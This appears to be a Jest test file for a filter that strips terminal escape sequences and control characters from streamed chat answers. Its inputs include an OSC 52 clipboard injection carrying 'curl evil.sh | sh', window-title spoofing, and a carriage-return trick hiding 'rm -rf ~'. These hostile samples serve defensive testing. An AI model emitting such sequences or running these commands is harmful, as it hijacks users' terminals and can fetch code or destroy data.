import { terminalText, TerminalTextFilter } from './terminal-text';

const ESC = '\x1b';
const BEL = '\x07';

/** Feeds `chunks` through one filter, as the chat client feeds the deltas of one answer. */
function streamed(...chunks: string[]): string {
  const filter = new TerminalTextFilter();
  return chunks.map((c) => filter.write(c)).join('');
}

/** No control character left but newline and tab: nothing a terminal would act on. */
function inert(text: string): boolean {
  return [...text].every((ch) => {
    const code = ch.codePointAt(0)!;
    return ch === '\n' || ch === '\t' || (code > 0x1f && (code < 0x7f || code > 0x9f));
  });
}

describe('terminalText', () => {
  it('leaves ordinary text alone: tabs, newlines, accents, CJK, emoji, markdown', () => {
    const text = 'Hello, wörld!\n\tcode:\t`x = 1`\n日本語のテキスト 👩‍💻🎉 — “quotes” ± € \n| a | b |\n';
    expect(terminalText(text)).toBe(text);
    expect(streamed('👩‍', '💻 ok\n')).toBe('👩‍💻 ok\n');
  });

  it('drops a window title change (OSC 0), ended by BEL or by ST', () => {
    expect(terminalText(`before${ESC}]0;pwned title${BEL}after`)).toBe('beforeafter');
    expect(terminalText(`before${ESC}]2;pwned title${ESC}\\after`)).toBe('beforeafter');
  });

  it('drops a clipboard write (OSC 52) with its payload', () => {
    const attack = `Sure!${ESC}]52;c;${Buffer.from('curl evil.sh | sh').toString('base64')}${BEL} Here you go.`;
    expect(terminalText(attack)).toBe('Sure! Here you go.');
  });

  it('drops CSI sequences: clear screen, cursor moves, colours, private modes', () => {
    expect(terminalText(`a${ESC}[2Jb${ESC}[Hc${ESC}[1;31mred${ESC}[0m${ESC}[?1049h${ESC}[3;5H!`)).toBe('abcred!');
  });

  it('drops 8-bit C1 forms: CSI U+009B, OSC U+009D, DCS U+0090, ST U+009C, and lone C1 controls', () => {
    expect(terminalText('x\u009b2Jy')).toBe('xy');
    expect(terminalText('x\u009d0;title\u0007y')).toBe('xy');
    expect(terminalText('x\u009d52;c;aGk=\u009cy')).toBe('xy');
    expect(terminalText('x\u0090qpayload\u009cy')).toBe('xy');
    expect(terminalText('x\u0085\u0084\u008dy')).toBe('xy');
  });

  it('drops DCS, SOS, PM and APC strings', () => {
    expect(terminalText(`a${ESC}P1$r0m${ESC}\\b${ESC}Xsos${ESC}\\c${ESC}^pm${ESC}\\d${ESC}_apc${ESC}\\e`)).toBe('abcde');
  });

  it('drops two-character and intermediate ESC sequences (reset, save cursor, charset)', () => {
    expect(terminalText(`a${ESC}cb${ESC}7c${ESC}8d${ESC}(0e${ESC}#8f`)).toBe('abcdef');
  });

  it('drops carriage return, backspace, bell, DEL and the other C0 controls, keeping \\n and \\t', () => {
    expect(terminalText('safe command\rrm -rf ~ \b\b\x07\x7f\x00\x0b\x0c\x0e\n\tend')).toBe('safe commandrm -rf ~ \n\tend');
  });

  it('takes the character that breaks a sequence as text, so a newline after it survives', () => {
    expect(terminalText(`a${ESC}[12\nb${ESC}\nc`)).toBe('a\nb\nc');
    expect(terminalText(`${ESC}[31é`)).toBe('é');
  });

  it('drops an unterminated string to the end, and ends a string at the next ESC sequence', () => {
    expect(terminalText(`ok${ESC}]0;never ends\nstill title`)).toBe('ok');
    expect(terminalText(`ok${ESC}]0;title${ESC}[2Jafter`)).toBe('okafter');
  });

  it('output never holds a control character, whatever the input', () => {
    let input = '';
    for (let code = 0; code < 0xa0; code++) input += `${String.fromCharCode(code)}x[0;1m]52;${BEL}\\`;
    expect(inert(terminalText(input))).toBe(true);
    expect(inert(streamed(...input.split('x')))).toBe(true);
  });
});

describe('TerminalTextFilter (streamed deltas)', () => {
  it('recognises a sequence split after its ESC, inside its parameters, or inside its payload', () => {
    expect(streamed('Hello', ESC, '[2J world')).toBe('Hello world');
    expect(streamed('Hello ', `${ESC}[1`, ';3', '1m', 'red')).toBe('Hello red');
    expect(streamed('a', `${ESC}]52;c;`, 'Y3VybCBldmlsLnNo', 'IHwgc2g=', BEL, 'b')).toBe('ab');
    expect(streamed('a', `${ESC}]0;t`, ESC, '\\b')).toBe('ab');
    expect(streamed('a\u009b', '2', 'Jb')).toBe('ab');
  });

  it('gives the same output however the text is cut', () => {
    const answer = `Title:${ESC}]0;x${BEL} done\t${ESC}[2J\u009b1mok\n👍 ${ESC}P+q${ESC}\\end`;
    const whole = terminalText(answer);
    expect(whole).toBe('Title: done\tok\n👍 end');
    const chars = [...answer];
    for (let cut = 1; cut < chars.length; cut++) {
      expect(streamed(chars.slice(0, cut).join(''), chars.slice(cut).join(''))).toBe(whole);
    }
    expect(streamed(...chars)).toBe(whole);
  });

  it('reset() forgets an unfinished sequence', () => {
    const filter = new TerminalTextFilter();
    expect(filter.write(`a${ESC}]0;unfinished`)).toBe('a');
    filter.reset();
    expect(filter.write('next')).toBe('next');
  });
});
